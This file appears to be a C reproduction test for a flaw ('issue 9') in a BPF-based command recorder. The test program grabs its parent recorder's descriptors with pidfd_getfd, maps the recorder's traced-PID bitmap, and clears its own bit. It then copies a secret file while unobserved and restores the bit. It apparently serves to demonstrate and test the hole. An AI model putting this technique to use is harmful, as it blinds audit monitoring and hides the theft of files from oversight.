/*
 * A recorded command that turns on its recorder (issue 9): it takes the
 * recorder's fds with pidfd_getfd(2), maps the BPF array that holds the
 * recorder's traced bits (the .bss map: one element of at least
 * PID_LIMIT / 8 bytes, mappable, the bits first), clears its own bit,
 * copies SECRET to COPY unseen, and sets the bit back.  The recorder is
 * its parent.  Prints "reached N": how many of the recorder's fds it got.
 * usage: self_untrace SECRET COPY
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PID_LIMIT (1 << 22)
#define BPF_F_MMAPABLE 0x400

/* Whether fd is the recorder's .bss map, from /proc/self/fdinfo. */
static int is_bss_map(int fd)
{
	char path[64], line[128];
	unsigned long type = 0, entries = 0, value = 0, flags = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
	f = fopen(path, "r");
	if (!f)
		return 0;
	while (fgets(line, sizeof(line), f)) {
		sscanf(line, "map_type: %lu", &type);
		sscanf(line, "max_entries: %lu", &entries);
		sscanf(line, "value_size: %lu", &value);
		sscanf(line, "map_flags: %lx", &flags);
	}
	fclose(f);
	return type == 2 && entries == 1 && value >= PID_LIMIT / 8 &&
	       (flags & BPF_F_MMAPABLE);
}

static void copy(const char *from, const char *to)
{
	char buf[4096];
	int in = open(from, O_RDONLY), out;
	ssize_t n;

	out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, n) != n)
			break;
	close(in);
	close(out);
}

int main(int argc, char **argv)
{
	int pidfd = syscall(SYS_pidfd_open, getppid(), 0), reached = 0;
	uint64_t *bits = NULL, bit = 1ULL << (getpid() % 64);
	size_t word = getpid() / 64;

	if (argc != 3) {
		fprintf(stderr, "usage: self_untrace SECRET COPY\n");
		return 2;
	}
	for (int target = 0; pidfd >= 0 && target < 256; target++) {
		int fd = syscall(SYS_pidfd_getfd, pidfd, target, 0);

		if (fd < 0)
			continue;
		reached++;
		if (!bits && is_bss_map(fd)) {
			bits = mmap(NULL, PID_LIMIT / 8, PROT_READ | PROT_WRITE,
				    MAP_SHARED, fd, 0);
			if (bits == MAP_FAILED)
				bits = NULL;
		}
	}
	if (bits)
		__atomic_fetch_and(&bits[word], ~bit, __ATOMIC_SEQ_CST);
	copy(argv[1], argv[2]);
	if (bits)
		__atomic_fetch_or(&bits[word], bit, __ATOMIC_SEQ_CST);
	printf("reached %d%s\n", reached, bits ? " traced bits" : "");
	return 0;
}
